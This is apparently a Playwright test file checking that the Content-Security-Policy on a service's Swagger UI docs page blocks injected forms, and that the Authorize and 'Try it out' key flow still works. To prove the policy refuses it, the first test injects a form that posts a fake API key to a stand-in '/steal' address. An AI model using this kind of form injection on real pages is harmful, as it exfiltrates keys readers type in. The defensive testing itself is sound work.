/**
 * The API reference (Swagger UI at /docs) posts no form: "Try it out" and Authorize work by script (fetch, and a
 * submit its script handles). Its policy allowed forms to post to any http: or https: address, so markup injected
 * into the page could send what a reader typed there (an API key in Authorize) to another site.
 */
import type { Browser, BrowserContext, Page } from 'playwright-core';
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { startTestService, type TestService } from '../helpers/service.js';
import { chromiumAvailable, launchChromium, watchPageErrors } from './browser.js';

const haveChromium = chromiumAvailable();

describe.skipIf(!haveChromium)('forms on the API reference page', () => {
  let svc: TestService;
  let browser: Browser;
  let context: BrowserContext;
  let page: Page;
  let pageErrors: string[];

  beforeAll(async () => {
    svc = await startTestService('sqlite');
    browser = await launchChromium();
  });
  afterAll(async () => {
    await browser?.close();
    await svc?.stop();
  });
  beforeEach(async () => {
    context = await browser.newContext();
    page = await context.newPage();
    pageErrors = watchPageErrors(page);
    await page.goto(`${svc.url}/docs/`);
    await page.locator('.swagger-ui .info .title').waitFor({ timeout: 20_000 });
  });
  afterEach(async () => {
    await context?.close();
  });

  it('a form injected into the page cannot post to another site', async () => {
    // Nothing listens there: what matters is whether the browser sends the form at all.
    const elsewhere = 'http://127.0.0.1:9/steal';
    const sent: string[] = [];
    page.on('request', (r) => {
      if (r.url() === elsewhere) sent.push(r.method());
    });
    // Written as strings: run in the browser (tsconfig has no DOM types).
    const refused = page.evaluate<string>(`new Promise((resolve) =>
      document.addEventListener('securitypolicyviolation', (e) => resolve('refused: ' + e.effectiveDirective)),
    )`);
    await page.evaluate(`(() => {
      const form = document.createElement('form');
      form.method = 'post';
      form.action = ${JSON.stringify(elsewhere)};
      const field = document.createElement('input');
      field.name = 'key';
      field.value = 'psk_typed_into_the_page';
      form.append(field);
      document.body.append(form);
      form.submit();
    })()`);
    expect(await refused).toBe('refused: form-action');
    expect(sent).toEqual([]);
  }, 60_000);

  it('Authorize still takes a key, and "Try it out" sends it', async () => {
    await page.locator('.btn.authorize').click();
    const dialog = page.locator('.dialog-ux');
    await dialog.locator('input').first().fill('psk_docs_reader_key');
    // The dialog's form: its submit is Swagger UI's script's to handle, and posts nothing.
    await dialog.locator('button[type="submit"]', { hasText: 'Authorize' }).click();
    await dialog.locator('button', { hasText: 'Logout' }).waitFor();
    await dialog.locator('button', { hasText: 'Close' }).first().click();

    const operation = page.locator('#operations-Checkout-getCheckoutSession');
    await operation.locator('.opblock-summary').click();
    await operation.locator('.try-out__btn').click();
    await operation.locator('input[placeholder="session_id"]').fill('cs_test_docs');
    const request = page.waitForRequest((r) => new URL(r.url()).pathname === '/checkout-session');
    await operation.getByRole('button', { name: 'Execute' }).click();
    expect((await request).headers()['authorization']).toBe('Bearer psk_docs_reader_key');
    expect(pageErrors).toEqual([]);
  }, 60_000);
});
